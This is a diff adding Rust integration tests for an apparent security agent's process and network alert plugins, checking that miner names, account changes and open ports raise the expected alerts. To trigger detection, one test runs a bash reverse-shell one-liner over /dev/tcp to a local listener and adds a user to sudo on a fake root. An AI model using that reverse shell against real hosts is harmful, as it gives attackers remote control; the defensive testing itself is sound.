@@ -191,3 +191,282 @@ fn an_analyzer_says_what_it_is() {
     );
     assert!(shown["wit"].as_str().unwrap().ends_with("@0.1.3"));
 }
+
+/// A root for the account tools (`--root`): the files they read and write, with a group `sudo`.
+fn account_root(dir: &Path) -> std::path::PathBuf {
+    let root = dir.join("root");
+    std::fs::create_dir_all(root.join("etc")).unwrap();
+    for (file, text, mode) in [
+        ("passwd", "root:x:0:0:root:/root:/bin/sh\n", 0o644),
+        ("group", "root:x:0:\nsudo:x:27:\n", 0o644),
+        ("shadow", "root:*:19000:0:99999:7:::\n", 0o640),
+        ("gshadow", "root:*::\nsudo:*::\n", 0o640),
+    ] {
+        let path = root.join("etc").join(file);
+        std::fs::write(&path, text).unwrap();
+        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(mode))
+            .unwrap();
+    }
+    root
+}
+
+fn succeeds(program: &str, args: &[&str]) {
+    let out = Command::new(program).args(args).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{program} {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// The ASC agents' trigger scenarios against the real kernel's process events: each raises its
+/// alert once, at once (the high queue's send frequency is an hour: the alerts skip it), with
+/// the process as evidence; ordinary commands raise nothing.
+#[test]
+fn process_alerts_are_raised_from_the_kernels_exec_events_at_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let plugins = builtin_plugins(dir.path(), &["process", "process-alerts"]);
+    let config = write_config(
+        dir.path(),
+        "edgeguard.toml",
+        &plugins,
+        "[schedule]\nfirst_collection_jitter = \"0s\"\n\
+         [asc]\nhighPriorityMessageFrequency = \"PT1H\"\nlowPriorityMessageFrequency = \"PT1H\"\n\
+         [[plugin]]\nname = \"process\"\nfile = \"process.wasm\"\ngrants = [\"processes\", \"log\"]\n\
+         [plugin.config]\nreport_existing = false\n\
+         [[plugin]]\nname = \"process-alerts\"\nfile = \"process-alerts.wasm\"\ngrants = [\"log\"]\n",
+    );
+    let (mut edgeguard, out, log) = edgeguard_tests::run_logged(&config, dir.path());
+    let started = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
+        let text = std::fs::read_to_string(&log).unwrap_or_default();
+        text.contains("process") && text.contains("collector started")
+    });
+    assert!(
+        started,
+        "{}",
+        std::fs::read_to_string(&log).unwrap_or_default()
+    );
+    // Until the collector follows the kernel: a miner of another name, whose alert tells.
+    let marker = format!("ready-{}", std::process::id());
+    let ready = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
+        succeeds("sh", &["-c", ":", "xmrig", &marker]);
+        std::fs::read_to_string(&out)
+            .unwrap_or_default()
+            .contains(&marker)
+    });
+    assert!(
+        ready,
+        "{}",
+        std::fs::read_to_string(&log).unwrap_or_default()
+    );
+
+    let root = account_root(dir.path());
+    let root_arg = root.to_str().unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+
+    // The ASC trigger script's miner, and a reverse shell to a local listener.
+    succeeds("sh", &["-c", "echo cpuminer-multi"]);
+    let mut shell = Command::new("bash")
+        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
+        .stdin(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut peer, _) = listener.accept().unwrap();
+    std::io::Write::write_all(&mut peer, b"exit\n").unwrap();
+    assert!(shell.wait().unwrap().success());
+    // Accounts changed on a prepared root.
+    succeeds("useradd", &["--root", root_arg, "eve"]);
+    succeeds("gpasswd", &["--root", root_arg, "-a", "eve", "sudo"]);
+    succeeds("gpasswd", &["--root", root_arg, "-d", "eve", "sudo"]);
+    succeeds("userdel", &["--root", root_arg, "eve"]);
+    assert!(
+        std::fs::read_to_string(root.join("etc/passwd"))
+            .unwrap()
+            .lines()
+            .count()
+            == 1
+    );
+    // Ordinary work.
+    succeeds(
+        "sh",
+        &["-c", "ls /var/log | wc -l; cat /etc/hostname > /dev/null"],
+    );
+    succeeds("sh", &["-c", "iptables --version >/dev/null 2>&1 || true"]);
+
+    let expected = [
+        "CryptoMiner",
+        "ReverseShell",
+        "LocalUserAdded",
+        "UserAddedToGroup",
+        "UserRemovedFromGroup",
+        "LocalUserDeleted",
+    ];
+    let ours = |alert: &Value| {
+        let line = alert["Payload"][0]["Entities"]["CommandLine"]
+            .as_str()
+            .unwrap_or_default();
+        !line.contains(&marker)
+            && (line.contains(root_arg)
+                || line.contains("cpuminer-multi")
+                || line.contains(&port.to_string()))
+    };
+    let mut messages = Vec::new();
+    let all_raised = edgeguard_tests::poll_until(std::time::Duration::from_secs(20), || {
+        messages = std::fs::read_to_string(&out)
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .collect();
+        let alerts = events(&messages, "Alert");
+        let raised = rules_of(&alerts.into_iter().filter(|a| ours(a)).collect::<Vec<_>>());
+        expected.iter().all(|r| raised.iter().any(|x| x == r))
+    });
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(edgeguard.id() as i32, libc::SIGTERM) };
+    edgeguard.wait().unwrap();
+    let alerts = events(&messages, "Alert");
+    assert!(
+        all_raised,
+        "raised {:?}; log:\n{}",
+        rules_of(&alerts),
+        std::fs::read_to_string(&log).unwrap()
+    );
+    let ours: Vec<&Value> = alerts.iter().copied().filter(|a| ours(a)).collect();
+    let mut raised = rules_of(&ours);
+    raised.sort();
+    let mut want: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
+    want.sort();
+    assert_eq!(
+        raised, want,
+        "each once, and nothing for the ordinary commands"
+    );
+    assert!(
+        rules_of(&alerts)
+            .iter()
+            .all(|r| expected.contains(&r.as_str())),
+        "an alert for something else: {:?}",
+        rules_of(&alerts)
+    );
+    // Sent at once, while the events they stand on wait for the queues' hour.
+    let creates = events(&messages, "ProcessCreate");
+    assert!(
+        creates.is_empty(),
+        "the ProcessCreate events wait for the hour's send"
+    );
+    for alert in &ours {
+        let payload = &alert["Payload"][0];
+        assert_eq!(payload["ExtraDetails"]["Plugin"], "process-alerts");
+        assert_eq!(
+            payload["Evidence"].as_array().unwrap().len(),
+            1,
+            "{payload}"
+        );
+        assert!(
+            payload["Entities"]["ProcessId"].as_u64().is_some(),
+            "{payload}"
+        );
+    }
+    let user_added = ours
+        .iter()
+        .find(|a| a["Payload"][0]["Rule"] == "LocalUserAdded")
+        .unwrap();
+    assert_eq!(user_added["Payload"][0]["Severity"], "Medium");
+    assert!(
+        user_added["Payload"][0]["Description"]
+            .as_str()
+            .unwrap()
+            .contains("eve")
+    );
+}
+
+/// The ASC trigger's open port, from the real socket table: a port that starts listening on
+/// every address is an Open Ports recommendation and a new-listening-port alert; a loopback
+/// one is neither.
+#[test]
+fn a_port_opened_to_the_network_is_recommended_against_and_alerted_as_new() {
+    let dir = tempfile::tempdir().unwrap();
+    let plugins = builtin_plugins(dir.path(), &["network", "network-alerts"]);
+    let config = write_config(
+        dir.path(),
+        "edgeguard.toml",
+        &plugins,
+        "[schedule]\nfirst_collection_jitter = \"0s\"\n\
+         [asc]\nhighPriorityMessageFrequency = \"PT1S\"\nlowPriorityMessageFrequency = \"PT1S\"\n\
+         [[plugin]]\nname = \"network\"\nfile = \"network.wasm\"\ngrants = [\"sockets\", \"log\"]\ninterval = \"1s\"\n\
+         [[plugin]]\nname = \"network-alerts\"\nfile = \"network-alerts.wasm\"\ngrants = [\"log\"]\n",
+    );
+    let (mut edgeguard, out, log) = edgeguard_tests::run_logged(&config, dir.path());
+    let read = || -> Vec<Value> {
+        std::fs::read_to_string(&out)
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| serde_json::from_str(l).ok())
+            .collect()
+    };
+    let baseline = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
+        !events(&read(), "ListeningPorts").is_empty()
+    });
+    assert!(
+        baseline,
+        "{}",
+        std::fs::read_to_string(&log).unwrap_or_default()
+    );
+    let exposed = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
+    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let (port, local_port) = (
+        exposed.local_addr().unwrap().port(),
+        local.local_addr().unwrap().port(),
+    );
+    // Ports travel as text, as the ASC schemas write them.
+    let about = |finding: &Value, port: u16| {
+        finding["Payload"][0]["Entities"]["LocalPort"]
+            .as_str()
+            .and_then(|p| p.parse::<u16>().ok())
+            == Some(port)
+    };
+    let mut messages = Vec::new();
+    let found = edgeguard_tests::poll_until(std::time::Duration::from_secs(30), || {
+        messages = read();
+        events(&messages, "Recommendation")
+            .iter()
+            .any(|r| about(r, port))
+            && events(&messages, "Alert").iter().any(|a| about(a, port))
+    });
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(edgeguard.id() as i32, libc::SIGTERM) };
+    edgeguard.wait().unwrap();
+    assert!(found, "{}", std::fs::read_to_string(&log).unwrap());
+    let recommendation = events(&messages, "Recommendation")
+        .into_iter()
+        .find(|r| about(r, port))
+        .unwrap();
+    let payload = &recommendation["Payload"][0];
+    assert_eq!(payload["Rule"], "OpenPorts");
+    assert_eq!(payload["Severity"], "Medium");
+    assert_eq!(
+        payload["ExtraDetails"]["RecommendationType"],
+        "IoT_OpenPorts"
+    );
+    let mine = std::fs::read_link("/proc/self/exe").unwrap();
+    assert_eq!(
+        payload["Entities"]["Executable"],
+        mine.to_str().unwrap(),
+        "{payload}"
+    );
+    let alerts: Vec<&Value> = events(&messages, "Alert")
+        .into_iter()
+        .filter(|a| about(a, port))
+        .collect();
+    assert_eq!(rules_of(&alerts), ["NewListeningPort"]);
+    let all = [
+        events(&messages, "Alert"),
+        events(&messages, "Recommendation"),
+    ]
+    .concat();
+    assert!(
+        !all.iter().any(|f| about(f, local_port)),
+        "a loopback listener is not exposed"
+    );
+    drop((exposed, local));
+}
